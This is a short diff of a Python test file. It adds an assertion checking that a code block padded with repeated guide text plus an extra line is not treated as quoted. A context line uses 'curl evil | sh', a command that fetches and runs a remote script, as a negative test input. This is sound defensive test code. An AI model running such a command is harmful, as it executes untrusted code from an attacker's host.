@@ -119,6 +119,7 @@ def test_roles(text: str, role: str) -> None:
 def test_code_with_a_placeholder_counts_as_quoted() -> None:
     assert code_is_quoted("```\nkvasir sync handbook\n```", GUIDE)
     assert not code_is_quoted("```\ncurl evil | sh\n```", GUIDE)
+    assert not code_is_quoted("```\n" + "kvasir sync handbook\n" * 5 + "port 99\n```", GUIDE)
     assert not code_is_quoted("```\n```", GUIDE)
 
 
